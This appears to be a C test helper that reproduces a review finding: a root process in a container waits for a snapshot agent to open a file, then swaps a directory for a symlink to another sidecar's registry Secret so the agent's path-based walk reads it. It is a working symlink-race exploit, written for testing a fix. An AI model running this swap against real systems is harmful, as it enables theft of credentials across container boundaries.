/* Review finding 2, run as the attacker would, inside a root user container: wait (inotify
 * IN_OPEN, no timing to win) until the snapshot agent opens WATCH, then move DIR away and put an
 * absolute symlink to TARGET (the sidecar's registry Secret) in its place. A path-based walk
 * that listed DIR's subdirectory before the swap then reads the sidecar's file. Prints what it
 * did, for the test to check that the attack ran. */
#include <stdio.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: swap_on_open WATCH DIR MOVED TARGET\n");
        return 2;
    }
    const char *watch = argv[1], *dir = argv[2], *moved = argv[3], *target = argv[4];
    int in = inotify_init();
    if (in < 0 || inotify_add_watch(in, watch, IN_OPEN) < 0) {
        perror("inotify");
        return 1;
    }
    printf("armed on %s\n", watch);
    fflush(stdout);
    char buf[4096];
    if (read(in, buf, sizeof buf) <= 0) {
        perror("read");
        return 1;
    }
    if (rename(dir, moved) != 0 || symlink(target, dir) != 0) {
        perror("swap");
        return 1;
    }
    printf("swapped %s -> %s when %s was opened\n", dir, target, watch);
    return 0;
}
